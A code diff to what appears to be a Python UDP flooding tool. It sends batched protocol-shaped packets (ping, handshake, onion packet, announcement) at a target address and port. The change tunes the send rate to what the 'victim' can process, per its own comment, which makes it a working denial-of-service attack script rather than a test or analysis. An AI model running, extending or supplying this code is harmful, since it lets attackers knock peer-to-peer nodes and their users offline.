@@ -15,8 +15,10 @@ import time
 SIZES = {0x00: 82, 0x02: 113, 0x18: 145, 0x1A: 385, 0x1B: 200, 0x80: 300, 0x83: 354}
 """Of a ping, a request for nodes, for a cookie, a handshake, data, an onion packet, an announcement."""
 UDP_SEGMENT = 103
-TOGETHER = 40
+TOGETHER = 20
 MESSAGES = 50
+PER_S = 100_000
+"""As much as five processors of the victim could work off, if it worked them off."""
 
 
 def plain(address: str, port: int, kind: int, seconds: float) -> int:
@@ -28,10 +30,12 @@ def plain(address: str, port: int, kind: int, seconds: float) -> int:
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
         sender.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, size)
         sender.connect((address, port))
-        while time.monotonic() < end_s:
-            for message in messages:
-                sender.send(message)
-            sent += MESSAGES * TOGETHER
+        while (now_s := time.monotonic()) < end_s:
+            if sent > (now_s - end_s + seconds) * PER_S:
+                time.sleep(0.001)
+                continue
+            sender.send(messages[sent // TOGETHER % MESSAGES])
+            sent += TOGETHER
     return sent
 
 
